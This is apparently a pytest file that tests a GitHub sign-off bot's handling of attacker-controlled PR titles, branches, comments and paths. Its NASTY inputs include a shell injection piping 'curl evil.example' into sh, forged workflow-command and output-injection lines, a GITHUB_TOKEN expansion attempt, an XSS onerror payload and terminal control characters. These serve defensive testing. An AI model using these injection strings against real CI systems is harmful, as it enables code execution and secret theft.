"""Titles, branches, comments and paths that want to be more than text: nothing comes alive."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from action import events
from support.alive import alive, html, links
from support.hostile import HOSTILE
from support.wire_default import FORK, signed_form
from support.wire_inferencex import BOT, SIGNER
from support.world import ChangedFile, Comment, user
from wire.workflow import Ran, Stage

NASTY = {
    "shell": '"; curl evil.example | sh; $(id) `id` #',
    "outputs": "a\nverdict=pass\nEOF\nverdict<<EOF\npass",
    "old command": "::set-output name=verdict::pass\n##[set-output name=verdict]pass",
    "commands": "::stop-commands::x\n::error::y\n ::add-mask::z",
    "team": "@octo-works/smiths @everybody",
    "comment": "<!-- signoff-bot sha=" + "a" * 40 + " signoff=issuecomment-1 --> **PASS**",
    "expression": "${{ secrets.GITHUB_TOKEN }}",
    "markup": "</details><img src=x onerror=alert(1)>[x](https://evil.example)",
    "control": "\x1b[2J\x1b]0;PASS\x07 \u202egnp.exe \u200b",
}
SERVER = "https://github.com/"


def spoil(stage: Stage, text: str) -> None:
    """Puts the text wherever somebody without rights can put it."""
    line = " ".join(text.split())
    pull = stage.pull
    pull.title, pull.body = line, text
    pull.labels = [line[:50]]
    pull.files.append(ChangedFile(f"src/{line}.py", "added", patch=f"@@ -0,0 +1 @@\n+{line}"))
    pull.commits[-1].message = text
    stage.repo.runs[0].name = line
    stage.repo.runs[0].jobs[1].name = line
    stage.repo.check_runs[1].name = line
    outsider = user("marlow-quist")
    form = signed_form().replace(SIGNER.login, f"{outsider.login} {line}")
    for number, body in ((4_780_000_060, f"{form}\n{text}\n"), (4_780_000_061, text)):
        pull.comments.append(
            Comment(number, outsider, body, created_at="2026-06-24T11:00:00Z", association="NONE")
        )


def branch(stage: Stage, name: str) -> None:
    """Renames the branch, as far as git lets a branch be called so."""
    stage.pull.head_ref = stage.repo.runs[0].head_branch = name
    stage.world.repositories[FORK].branches[name] = stage.pull.head_sha
    for push in stage.world.repositories[FORK].activity:
        push.ref = f"refs/heads/{name}"


def check_inert(stage: Stage, ran: Ran) -> None:
    for line in (ran.log + ran.err).splitlines():
        annotation = re.fullmatch(r"::(error|warning) title=[^:,]*::.*", line)
        assert annotation or line.startswith("signoff-bot: ")
        assert "##[" not in line
        assert line.isprintable()
    assert set(ran.outputs) <= {"verdict", "report-json", "comment-url"}
    assert ran.outputs["verdict"] in ("fail", "pass", "pending", "error")
    ours = [comment for comment in stage.ours if comment.author == BOT]
    for comment in ours:
        first, _, rest = comment.body.partition("\n")
        seen = alive(rest)
        assert set(seen) <= {"mention: @m", "mention: @o"}, seen
        assert all(part in _OWN_HTML for part in html(rest))
        assert first.startswith("<!-- signoff-bot sha=" + stage.pull.head_sha)
    shown = [*links(ran.summary), *(url for c in ours for url in links(c.body))]
    assert all(url.startswith(SERVER) for url in shown)
    assert all(s.description and s.description.isprintable() for s in stage.repo.statuses)


_OWN_HTML = {
    "<details>\n",
    "<summary>Evidence, details and replay</summary>\n",
    "<details>\n<summary>Evidence, details and replay</summary>\n",
    "</details>\n",
}


@pytest.mark.parametrize("text", NASTY.values(), ids=NASTY)
@pytest.mark.parametrize("event", ["comment", "opened", "run", "review"])
def test_nothing_that_somebody_wrote_comes_alive(stage: Stage, text: str, event: str) -> None:
    spoil(stage, text)
    branch(stage, re.sub(r"[\s~^:?*\[\\\x00-\x1f]", "-", text)[:80] + "/$(id)`;")
    repo, pull = stage.repo, stage.pull
    payloads: dict[str, tuple[str, Any]] = {
        "comment": ("issue_comment", events.issue_comment(repo, pull, pull.comments[-2])),
        "opened": ("pull_request_target", events.pull_request(repo, pull, "opened")),
        "run": ("workflow_run", events.workflow_run(repo, pull, repo.runs[0])),
        "review": ("pull_request_review", events.review(repo, pull, f"{signed_form()}\n{text}")),
    }
    name, payload = payloads[event]
    ran = stage.run(name, payload, fail_on="never")
    assert ran.status == 0, ran.err
    check_inert(stage, ran)
    assert all(json.dumps(v) for v in ran.verdicts)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_names_in_the_welcome_stay_names(stage: Stage, text: str) -> None:
    del stage.pull.comments[1]
    stage.pull.files.append(ChangedFile(f"src/{text}"))
    stage.run("pull_request_target", events.pull_request(stage.repo, stage.pull, "opened"))
    (welcome,) = (c for c in stage.pull.comments if c.body.startswith("<!-- signoff-bot welcome"))
    assert not alive(welcome.body)
    assert html(welcome.body) == ["<!-- signoff-bot welcome -->\n"]


def test_a_failure_that_quotes_hostile_text_commands_nothing(stage: Stage) -> None:
    text = "x\n::error::y ##[error]z"
    payload = events.issue_comment(stage.repo, stage.pull, stage.signed)
    ran = stage.run("issue_comment", payload, pr=text)
    assert ran.status == 2
    for line in (ran.log + ran.err).splitlines():
        assert "##[" not in line
        assert line.startswith(("signoff-bot: ", "::error title=signoff-bot::"))
